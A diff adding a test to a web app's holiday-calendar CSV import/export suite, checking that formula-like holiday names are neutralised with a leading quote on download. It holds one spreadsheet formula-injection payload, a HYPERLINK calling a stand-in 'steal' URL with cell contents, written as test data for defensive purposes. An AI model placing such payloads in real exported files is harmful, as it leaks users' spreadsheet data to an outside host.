@@ -4,6 +4,7 @@ it and what bad input gets."""
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, date, datetime, timedelta
 
@@ -342,6 +343,20 @@ def test_importing_a_year_and_downloading_it_again(client, login, session, admin
         "2027-02-06,放假,春节",
         "2027-02-07,调休上班,春节",
     ]
+
+
+def test_a_holiday_name_a_spreadsheet_would_run_is_downloaded_as_text(
+    client, login, session, admin
+):
+    login(admin)
+    link = '=HYPERLINK("http://example.com/steal?d="&A1,"元旦")'
+    rows = [["日期", "类型", "名称"], ["2027-01-01", "放假", link], ["2027-02-06", "放假", "-春节"]]
+    content = io.StringIO()
+    csv.writer(content).writerows(rows)
+    assert upload(client, content.getvalue().encode("utf-8"), "2027.csv").status_code == 302
+    export = client.get("/admin/holidays/2027.csv")
+    lines = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"), newline="")))
+    assert lines[1:] == [["2027-01-01", "放假", "'" + link], ["2027-02-06", "放假", "'-春节"]]
 
 
 def test_a_holiday_file_with_bad_rows_is_refused_whole_rows_named(client, login, session, admin):
